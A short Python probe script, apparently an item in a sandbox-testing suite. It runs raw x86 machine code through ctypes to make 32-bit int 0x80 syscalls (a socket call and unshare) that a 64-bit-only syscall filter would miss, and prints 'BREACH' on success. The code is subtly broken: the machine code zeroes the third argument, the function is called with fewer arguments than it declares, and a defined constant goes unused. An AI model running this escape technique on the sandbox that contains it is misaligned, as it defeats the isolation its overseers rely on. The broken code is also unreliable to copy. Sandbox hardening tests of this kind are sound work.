# tries: calls the kernel through int 0x80, whose numbers a filter for 64 bits does not know
# base: stub
# may score: 0
# %% first
import ctypes, mmap, platform

MAP_32BIT = 0x40


def call32(number, first=0, second=0, third=0):
    """eax = number; ebx, ecx, edx = arguments; int 0x80."""
    code = b"\x53\x48\x89\xf8\x48\x89\xf3\x48\x89\xd1\x48\x89\xca" + b"\x31\xd2" + b"\xcd\x80\x5b\xc3"
    area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(code)
    start = ctypes.addressof(ctypes.c_char.from_buffer(area))
    return ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_long, ctypes.c_long, ctypes.c_long)(start)(number, first, second)


if platform.machine() == "x86_64":
    try:
        made = call32(359, 1, 1)  # socket(AF_UNIX, SOCK_STREAM)
        print("BREACH a socket by int 0x80" if made >= 0 else "int 0x80 socket", made)
        print("int 0x80 unshare", call32(310, 0))
    except (OSError, ValueError) as error:
        print(error)
